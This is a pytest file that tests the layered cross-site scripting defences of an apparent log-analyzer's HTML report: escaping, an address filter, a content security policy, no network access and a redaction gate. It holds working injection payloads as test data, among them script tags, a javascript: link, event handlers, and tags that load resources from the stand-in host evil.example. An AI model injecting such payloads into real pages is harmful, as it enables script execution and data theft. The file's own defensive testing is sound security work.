"""Each layer of the report's defence holds while the one before it is switched off; with all off, the attacks are live.

The layers: escaping; the filter of addresses; no data where it would be code; a policy of two hashes; no network; a gate
that closes when it is in doubt.
"""

from __future__ import annotations

import json
import re
import socket
from collections.abc import Iterator
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from chromium import Seen, opened
from click.testing import CliRunner
from hostile_texts import ADDRESSES, HOSTILE_TEXTS, TEXTS
from jinja2 import Environment
from playwright.sync_api import Browser
from report_cases import POOL, demo, hostile

from analyzer import report
from analyzer.cli import group
from analyzer.errors import LeakError
from analyzer.redact import Redactor
from analyzer.report import links, material, render, report_html

PACKAGE = Path(report.__file__).parent
ROOT = Path(__file__).parents[1]
LINK_TEXTS = tuple(text for text, link in ADDRESSES.values() if link is None)
JAVASCRIPT = "javascript:window.pwned=1"


@pytest.fixture
def show(browser: Browser, tmp_path: Path) -> Iterator[object]:
    """Opens a page from a file."""
    pages = []

    def open_page(text: str) -> Seen:
        path = tmp_path / f"report-{len(pages)}.html"
        path.write_text(text, encoding="utf-8", errors="surrogatepass")
        pages.append(opened(browser, path))
        return pages[-1].__enter__()

    yield open_page
    for page in pages:
        page.__exit__(None, None, None)


def unescaped() -> Environment:
    """Gives the environment of the report with its escaping off, and nothing else changed."""
    made = render.environment.__wrapped__()
    made.autoescape = False
    return made


@pytest.fixture
def without_escaping(monkeypatch: pytest.MonkeyPatch) -> None:
    environment = unescaped()
    monkeypatch.setattr(render, "environment", lambda: environment)


@pytest.fixture
def without_filter(monkeypatch: pytest.MonkeyPatch) -> None:
    """Lets every address be a link: the filter of the templates, and the choice of what becomes a link."""
    environment = render.environment.__wrapped__()
    environment.filters["href"] = lambda text: text
    monkeypatch.setattr(render, "environment", lambda: environment)
    monkeypatch.setattr(material, "address", lambda text: text if ":" in text else None)


def without_policy(page: str) -> str:
    """Gives the page without its content security policy."""
    bare, found = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", page)
    assert found == 1
    return bare


def source(name: str) -> str:
    """Gives a file of the package as a template includes it, without its last line feed."""
    return (PACKAGE / name).read_text().removesuffix("\n")


def links_of(seen: Seen) -> list[str]:
    return seen.page.evaluate("[...document.links].map(each => each.getAttribute('href'))")


def attacked_links() -> str:
    """Gives a page whose steps, which may hold links, are the addresses that no link may have."""
    steps = (JAVASCRIPT, *LINK_TEXTS)[:20]
    whole = demo()
    findings = replace(whole.findings, incidents=(replace(POOL, next_steps=steps),))
    return report_html(replace(whole, findings=findings))


class Parts(HTMLParser):
    """Collects what a browser would run, apply or follow: blocks of script and style, and all attributes."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.blocks: dict[str, list[str]] = {"script": [], "style": []}
        self.attributes: list[tuple[str, str, str]] = []
        self._inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inside = tag
        self.attributes += [(tag, name, value or "") for name, value in attrs]

    def handle_endtag(self, tag: str) -> None:
        self._inside = ""

    def handle_data(self, data: str) -> None:
        if self._inside in self.blocks:
            self.blocks[self._inside].append(data)


# The attacks are live: with a layer and the one behind it off, the mark is set


@pytest.mark.browser
def test_without_escaping_and_policy_the_attacks_run(show, without_escaping: None) -> None:
    """The corpus is live ammunition: what the tests below call safe is not safe by itself."""
    seen = show(without_policy(report_html(hostile())))
    assert seen.ran
    assert [address for address in seen.requests if "evil.example" in address]


@pytest.mark.browser
def test_without_filter_and_policy_a_link_runs(show, without_filter: None) -> None:
    """A step that is a javascript: address becomes a link, and following it sets the mark."""
    seen = show(without_policy(attacked_links()))
    seen.page.locator(f"a[href='{JAVASCRIPT}']").first.click()
    seen.page.wait_for_function("window.pwned")
    assert seen.ran


_RUNS = [
    name
    for name, text in TEXTS.items()
    if re.search(r"<(script|img|svg|iframe)\b", text) and not text.startswith(("&lt;", "<!--"))
]


@pytest.mark.parametrize("name", _RUNS)
@pytest.mark.browser
def test_each_text_with_markup_makes_an_element_where_nothing_is_escaped(show, name: str) -> None:
    """In a title, style, script, text field, comment or plain text, whichever it is written for."""
    text = TEXTS[name]
    around = next((tag for tag in ("title", "style", "script", "textarea", "noscript") if f"</{tag}>" in text), "p")
    before, after = ("<!--", "") if text.startswith("-->") else (f"<{around}>", "")
    seen = show(f"<!doctype html><meta charset=utf-8><h1>x</h1>{before}{text}{after}")
    made = "document.querySelectorAll('body script, body img, body svg, body iframe, style ~ style, body style').length"
    assert seen.ran or seen.page.evaluate(made)


# First layer: escaping, with everything behind it switched off


@pytest.mark.browser
def test_escaping_holds_alone(show) -> None:
    """Without a policy: nothing runs, nothing is asked for, and the elements are those of a page without attacks."""
    seen = show(without_policy(report_html(hostile())))
    assert (seen.ran, seen.messages, len(seen.requests)) == (False, [], 1)
    elements = "[...new Set([...document.querySelectorAll('*')].map(each => each.localName))].sort()"
    attacked = set(seen.page.evaluate(elements))
    assert attacked.isdisjoint(
        {"img", "iframe", "foreignObject", "textarea", "base", "object", "embed", "form", "link"}
    )
    assert seen.page.locator("script, style").count() == 2


# Second layer: the filter of addresses, with escaping off


@pytest.mark.parametrize("text", dict.fromkeys((*HOSTILE_TEXTS, *LINK_TEXTS)))
def test_the_filter_holds_without_escaping(text: str) -> None:
    """What the filter lets into an href cannot leave the attribute, even if nothing escapes it; all else is an error."""
    template = unescaped().from_string('<a href="{{ text|href }}">x</a>')
    with pytest.raises(ValueError, match="not an address"):
        template.render(text=text)


def test_the_filter_lets_no_character_through_that_ends_an_attribute() -> None:
    """Of all characters up to U+FFFF, alone in the path of an address."""
    passed = {chr(code) for code in range(0x10000) if links.address(f"https://host.example/{chr(code)}")}
    assert passed.isdisjoint("\"'<>`\\ \t\r\n\0{}|^")
    assert all("!" <= char <= "~" for char in passed)
    assert len(passed) >= 70, "letters, digits and what addresses are made of"


@pytest.mark.browser
def test_no_address_of_the_set_becomes_a_link(show) -> None:
    """With a policy switched off: a report whose steps are such addresses shows them as text."""
    seen = show(without_policy(attacked_links()))
    # Behind a leading blank stands a word that may be a link.
    assert {link for link in links_of(seen) if not link.startswith("#")} <= {"https://host.example/"}
    assert JAVASCRIPT in seen.text


# Third layer: no data in style, script, event or template source, with the filter off


def test_no_data_is_code_without_the_filter(without_filter: None) -> None:
    """The two blocks are the package's own files, no attribute is an event or a style, no brace is computed."""
    for page in (report_html(hostile()), attacked_links()):
        parts = Parts(page)
        assert "".join(parts.blocks["script"]) == source("script.js")
        assert "".join(parts.blocks["style"]) == "".join(map(source, render.styles()))
        names = {name for _, name, _ in parts.attributes}
        assert [name for name in names if name.startswith("on") or name in ("style", "srcdoc", "src", "action")] == []
    assert "{{7*7}}" in report_html(hostile())


def test_no_attribute_with_a_meaning_holds_data_without_the_filter(without_filter: None) -> None:
    """But for href: id, class, role, transform, d and the like hold nothing of what the inputs say."""
    for tag, name, value in Parts(report_html(hostile())).attributes:
        if name not in ("href", "data-label", "aria-label", "content", "datetime"):
            assert re.fullmatch(r"[\w\s.,#:;()/%+-]*", value), (tag, name, value)
            assert "pwned" not in value


def test_text_is_no_template() -> None:
    """Text of the inputs is never the source of a template, even where nothing is escaped."""
    template = unescaped().from_string("{{ text }}")
    for text in ("{{7*7}}", "{% raw %}", "{# gone #}", TEXTS["template reaches for more"]):
        assert template.render(text=text) == text


# Fourth layer: the policy, with the layers before it off


@pytest.mark.browser
def test_the_policy_holds_without_escaping(show, without_escaping: None) -> None:
    """Every attack is an element now, and none runs or loads; the browser says what it stopped."""
    page = report_html(hostile())
    assert "<script>window.pwned=1</script>" in page
    seen = show(page)
    assert not seen.ran
    assert len(seen.loaded) == 1
    assert {directive.partition("-")[0] for directive in seen.violations} >= {"script", "style"}


@pytest.mark.browser
def test_the_policy_holds_without_the_filter(show, without_filter: None) -> None:
    """A link to a javascript: address is there, and following it does nothing."""
    seen = show(attacked_links())
    seen.page.locator(f"a[href='{JAVASCRIPT}']").first.click()
    seen.page.wait_for_timeout(100)
    assert not seen.ran
    assert seen.violations


@pytest.mark.parametrize(
    ("inside", "attack"),
    [
        ("</script>", "\nwindow.pwned=1;</script>"),
        ("</style>", "\nbody{background:url(//evil.example/x)}</style>"),
        ("<main ", "<main onfocusin='window.pwned=1' onmouseover='window.pwned=1' "),
        ("<main ", "<main style='background:url(//evil.example/x)' "),
        ("<footer>", "<footer><script src=//evil.example/x.js></script>"),
        ("<footer>", "<footer><object data=//evil.example/x></object><embed src=//evil.example/y>"),
        ("<footer>", "<footer><iframe srcdoc='<script>parent.pwned=1</script>'></iframe>"),
        (
            "<footer>",
            "<footer><link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example/y>",
        ),
        ("<footer>", "<footer><img src=//evil.example/x><audio src=//evil.example/y autoplay></audio>"),
    ],
)
@pytest.mark.browser
def test_the_policy_holds_where_data_has_become_code(show, inside: str, attack: str) -> None:
    """With data in script, style, events or sources, the block's hash no longer fits, and nothing runs or loads."""
    page = report_html(demo())
    assert inside in page
    seen = show(page.replace(inside, attack, 1))
    assert not seen.ran
    assert len(seen.loaded) == 1
    assert seen.violations or seen.messages, "a frame of its own tells the console only"
    bare = show(without_policy(page).replace(inside, attack, 1))
    assert bare.ran or [address for address in bare.requests if "evil.example" in address], "the attack is live"


# Fifth layer: no network, with the policy off


@pytest.mark.browser
def test_nothing_is_asked_of_the_network_without_a_policy(show) -> None:
    """The page itself names no source: without its policy it still loads nothing, in whichever case."""
    for page in (report_html(demo()), report_html(hostile())):
        seen = show(without_policy(page))
        assert seen.requests == seen.loaded
        assert len(seen.requests) == 1


def test_the_program_itself_opens_no_connection(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Reading every attack, with addresses and references in it, and writing the report: no socket is connected."""

    def refuse(*_: object) -> None:
        raise AssertionError("a connection was tried")

    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    for name in ("connect", "connect_ex", "sendto", "bind"):
        monkeypatch.setattr(socket.socket, name, refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    done = CliRunner().invoke(group, ["analyze", "sample_logs/hostile", "-o", str(tmp_path / "out")])
    assert done.exit_code == 0, done.output


# Sixth layer: the gate, with redaction off


def test_the_gate_closes_without_redaction(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """With a redactor that learns and replaces nothing of the page, no file is written and the exit code is 5."""
    monkeypatch.chdir(ROOT)
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.setattr(Redactor, "_replaced", lambda _, texts, table: texts)
    done = CliRunner().invoke(group, ["analyze", "sample_logs/hostile", "-o", str(tmp_path / "out")])
    assert isinstance(done.exception, LeakError)
    assert done.exception.exit_code == 5
    assert [path.name for path in tmp_path.iterdir()] == ["state"]
    secrets = json.loads((ROOT / "tests/data/stories/hostile/truth.json").read_text())["canaries"]
    assert [secret for secret in secrets if secret in str(done.exception)] == []
